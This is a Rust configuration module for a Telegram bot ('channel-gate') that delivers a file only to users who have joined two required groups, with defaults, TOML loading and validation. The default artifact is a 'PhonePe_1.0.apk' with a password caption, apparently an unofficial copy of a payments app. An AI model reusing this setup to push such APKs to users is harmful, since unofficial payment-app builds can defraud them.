//! Configuration for channel-gate.

use serde::{Deserialize, Serialize};
use std::path::PathBuf;
use std::time::Duration;

/// Gate configuration.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct GateConfig {
    /// Bot API token.
    #[serde(default)]
    pub bot_token: String,

    /// The two groups a requester must join.
    #[serde(default)]
    pub groups: GroupsConfig,

    /// The artifact served to verified requesters.
    #[serde(default)]
    pub artifact: ArtifactConfig,

    /// Verification tuning.
    #[serde(default)]
    pub verification: VerificationSettings,

    /// Bot API transport settings.
    #[serde(default)]
    pub telegram: TelegramConfig,

    /// Log level.
    #[serde(default = "default_log_level")]
    pub log_level: String,
}

/// The pair of required groups.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct GroupsConfig {
    /// First required group.
    #[serde(default)]
    pub primary: GroupConfig,

    /// Second required group.
    #[serde(default)]
    pub secondary: GroupConfig,
}

/// One required group.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct GroupConfig {
    /// Numeric group identifier (non-zero).
    #[serde(default)]
    pub id: i64,

    /// Link shown to requesters to join the group.
    #[serde(default)]
    pub join_url: String,
}

/// Artifact configuration.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ArtifactConfig {
    /// Local path of the artifact. Resolved at first delivery, not at startup.
    #[serde(default = "default_artifact_path")]
    pub path: PathBuf,

    /// Chat the artifact is uploaded into once to obtain a reusable handle.
    #[serde(default)]
    pub storage_chat_id: i64,

    /// Caption attached to every delivery.
    #[serde(default = "default_caption")]
    pub caption: String,

    /// Forbid recipients from forwarding or saving the artifact.
    #[serde(default = "default_true")]
    pub protect_content: bool,

    /// Upload deadline in seconds.
    #[serde(default = "default_upload_timeout")]
    pub upload_timeout_secs: u64,
}

/// Verification tuning.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct VerificationSettings {
    /// Minimum seconds between verification attempts of one requester.
    #[serde(default = "default_cooldown")]
    pub cooldown_secs: u64,

    /// Deadline in seconds for one membership query.
    #[serde(default = "default_query_timeout")]
    pub query_timeout_secs: u64,

    /// Seconds between sweeps of expired cooldown entries (0 disables).
    #[serde(default = "default_sweep_interval")]
    pub sweep_interval_secs: u64,
}

/// Bot API transport settings.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct TelegramConfig {
    /// Base URL of the Bot API.
    #[serde(default = "default_api_base")]
    pub api_base: String,

    /// Long-polling timeout in seconds.
    #[serde(default = "default_poll_timeout")]
    pub poll_timeout_secs: u64,
}

impl Default for GateConfig {
    fn default() -> Self {
        Self {
            bot_token: String::new(),
            groups: GroupsConfig::default(),
            artifact: ArtifactConfig::default(),
            verification: VerificationSettings::default(),
            telegram: TelegramConfig::default(),
            log_level: default_log_level(),
        }
    }
}

impl Default for ArtifactConfig {
    fn default() -> Self {
        Self {
            path: default_artifact_path(),
            storage_chat_id: 0,
            caption: default_caption(),
            protect_content: true,
            upload_timeout_secs: default_upload_timeout(),
        }
    }
}

impl Default for VerificationSettings {
    fn default() -> Self {
        Self {
            cooldown_secs: default_cooldown(),
            query_timeout_secs: default_query_timeout(),
            sweep_interval_secs: default_sweep_interval(),
        }
    }
}

impl Default for TelegramConfig {
    fn default() -> Self {
        Self {
            api_base: default_api_base(),
            poll_timeout_secs: default_poll_timeout(),
        }
    }
}

fn default_log_level() -> String {
    "info".to_string()
}

fn default_artifact_path() -> PathBuf {
    PathBuf::from("PhonePe_1.0.apk")
}

fn default_caption() -> String {
    "🔐 Password - tritalks".to_string()
}

const fn default_true() -> bool {
    true
}

const fn default_upload_timeout() -> u64 {
    120
}

/// Longest accepted cooldown window (one day).
pub const MAX_COOLDOWN_SECS: u64 = crate::access::MAX_WINDOW.as_secs();

const fn default_cooldown() -> u64 {
    3
}

const fn default_query_timeout() -> u64 {
    10
}

const fn default_sweep_interval() -> u64 {
    600
}

fn default_api_base() -> String {
    "https://api.telegram.org".to_string()
}

const fn default_poll_timeout() -> u64 {
    30
}

impl VerificationSettings {
    /// Cooldown window.
    #[must_use]
    pub fn cooldown(&self) -> Duration {
        Duration::from_secs(self.cooldown_secs)
    }

    /// Membership query deadline.
    #[must_use]
    pub fn query_timeout(&self) -> Duration {
        Duration::from_secs(self.query_timeout_secs)
    }

    /// Sweep interval, `None` when sweeping is disabled.
    #[must_use]
    pub fn sweep_interval(&self) -> Option<Duration> {
        (self.sweep_interval_secs > 0).then(|| Duration::from_secs(self.sweep_interval_secs))
    }
}

impl GateConfig {
    /// Load configuration from a TOML file.
    ///
    /// # Errors
    ///
    /// Returns an error if the file cannot be read or parsed.
    pub fn from_file(path: &std::path::Path) -> crate::Result<Self> {
        let content = std::fs::read_to_string(path)?;
        toml::from_str(&content).map_err(|e| crate::Error::Config(e.to_string()))
    }

    /// Save configuration to a TOML file.
    ///
    /// # Errors
    ///
    /// Returns an error if the file cannot be written.
    pub fn to_file(&self, path: &std::path::Path) -> crate::Result<()> {
        let content = toml::to_string_pretty(self).map_err(|e| crate::Error::Config(e.to_string()))?;
        std::fs::write(path, content)?;
        Ok(())
    }

    /// Check that every required setting is present.
    ///
    /// The artifact path is not checked; it only has to exist at first delivery.
    ///
    /// # Errors
    ///
    /// Returns `Error::Config` naming the first offending field.
    pub fn validate(&self) -> crate::Result<()> {
        let missing = |field: &str| Err(crate::Error::Config(format!("{field} is required")));

        if self.bot_token.trim().is_empty() {
            return missing("bot_token");
        }
        if self.groups.primary.id == 0 {
            return missing("groups.primary.id");
        }
        if self.groups.secondary.id == 0 {
            return missing("groups.secondary.id");
        }
        if self.groups.primary.join_url.trim().is_empty() {
            return missing("groups.primary.join_url");
        }
        if self.groups.secondary.join_url.trim().is_empty() {
            return missing("groups.secondary.join_url");
        }
        if self.artifact.path.as_os_str().is_empty() {
            return missing("artifact.path");
        }
        if self.artifact.storage_chat_id == 0 {
            return missing("artifact.storage_chat_id");
        }
        if self.verification.cooldown_secs == 0 || self.verification.cooldown_secs > MAX_COOLDOWN_SECS {
            return Err(crate::Error::Config(format!(
                "verification.cooldown_secs must be between 1 and {MAX_COOLDOWN_SECS}"
            )));
        }
        if self.verification.query_timeout_secs == 0 {
            return Err(crate::Error::Config(
                "verification.query_timeout_secs must be non-zero".to_string(),
            ));
        }
        if self.artifact.upload_timeout_secs == 0 {
            return Err(crate::Error::Config(
                "artifact.upload_timeout_secs must be non-zero".to_string(),
            ));
        }
        Ok(())
    }
}
